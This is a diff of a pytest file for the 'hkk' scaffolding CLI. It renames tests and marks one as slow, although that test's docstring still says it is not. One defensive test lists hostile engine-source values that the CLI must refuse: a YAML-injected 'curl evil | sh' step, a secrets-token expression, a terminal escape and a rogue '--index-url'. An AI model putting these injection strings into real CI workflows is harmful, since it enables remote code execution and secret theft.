@@ -61,6 +61,7 @@ def test_bad_code_and_non_empty_folder_are_refused(tmp_path):
         create("zold", tmp_path)
 
 
+@pytest.mark.slow
 def test_scaffolded_set_installs_and_its_tests_and_verify_pass(tmp_path):
     """pip install -e (no deps: the engine and pytest-hkk are here already), then the project's
     own pytest run and ``hkk verify``.  About 6 s, so not marked slow.  The set goes into a venv
@@ -99,7 +100,7 @@ def test_scaffolded_set_installs_and_its_tests_and_verify_pass(tmp_path):
 
 # -- issue 13: a workflow that runs before the engine is on an index; a name that can load ----
 
-def test_issue13_workflow_installs_the_engine_from_one_place_and_keeps_verify_xml(tmp_path):
+def test_workflow_installs_the_engine_from_one_place_and_keeps_verify_xml(tmp_path):
     import yaml
 
     project = create("zold", tmp_path, source="/src/hkk")
@@ -117,7 +118,7 @@ def test_issue13_workflow_installs_the_engine_from_one_place_and_keeps_verify_xm
     assert upload["with"]["path"] == "verify.xml" and upload["if"] == "always()"
 
 
-def test_issue13_engine_source_defaults_to_where_this_engine_came_from(tmp_path):
+def test_engine_source_defaults_to_where_this_engine_came_from(tmp_path):
     from hkk._scaffold import engine_source
 
     here = engine_source()
@@ -125,7 +126,7 @@ def test_issue13_engine_source_defaults_to_where_this_engine_came_from(tmp_path)
     assert placeholders("zold")["engine_source"] == json.dumps(here)
 
 
-def test_issue24_6_the_default_workflow_holds_no_path_of_this_machine(tmp_path):
+def test_the_default_workflow_holds_no_path_of_this_machine(tmp_path):
     import yaml
 
     from hkk._scaffold import local_engine_folder
@@ -141,7 +142,7 @@ def test_issue24_6_the_default_workflow_holds_no_path_of_this_machine(tmp_path):
 
 @pytest.mark.parametrize("source", ['x"\n  - run: curl evil | sh\n  X: "',
                                     "${{ secrets.TOKEN }}", "a\x1b[2Jb", "--index-url=http://x"])
-def test_issue24_6_an_engine_source_that_would_inject_a_step_is_refused(tmp_path, source):
+def test_an_engine_source_that_would_inject_a_step_is_refused(tmp_path, source):
     from click.testing import CliRunner
 
     from hkk.cli import main
@@ -154,7 +155,7 @@ def test_issue24_6_an_engine_source_that_would_inject_a_step_is_refused(tmp_path
     assert not (tmp_path / "hkk-set-bevitel").exists()
 
 
-def test_issue24_6_quotes_and_backslashes_in_an_engine_source_stay_text(tmp_path):
+def test_quotes_and_backslashes_in_an_engine_source_stay_text(tmp_path):
     import yaml
 
     source = 'C:\\hkk "forras"'
@@ -164,7 +165,7 @@ def test_issue24_6_quotes_and_backslashes_in_an_engine_source_stay_text(tmp_path
     assert [s.get("name") for s in flow["jobs"]["verify"]["steps"]][-1] == "Keep the verify report"
 
 
-def test_issue13_an_installed_set_code_is_refused(tmp_path):
+def test_an_installed_set_code_is_refused(tmp_path):
     from click.testing import CliRunner
 
     from hkk.cli import main
@@ -179,7 +180,7 @@ def test_issue13_an_installed_set_code_is_refused(tmp_path):
     assert f"pip install -e '{tmp_path / 'hkk-set-friss'}[test]'" in result.output
 
 
-def test_issue13_help_lines_are_not_cut():
+def test_help_lines_are_not_cut():
     from click.testing import CliRunner
 
     from hkk.cli import main
@@ -200,7 +201,7 @@ def test_issue13_help_lines_are_not_cut():
 
 @pytest.mark.slow  # a fresh venv with every dependency
 @pytest.mark.xdist_group("source-tree")  # pip builds the engine in the source tree
-def test_issue13_generated_workflow_steps_pass_with_the_engine_from_a_path(tmp_path):
+def test_generated_workflow_steps_pass_with_the_engine_from_a_path(tmp_path):
     """The workflow's `run` steps, in order, in a fresh venv, with HKK_SOURCE = this checkout
     (what an author's CI does with a path or git URL before hkk is on an index)."""
     import yaml
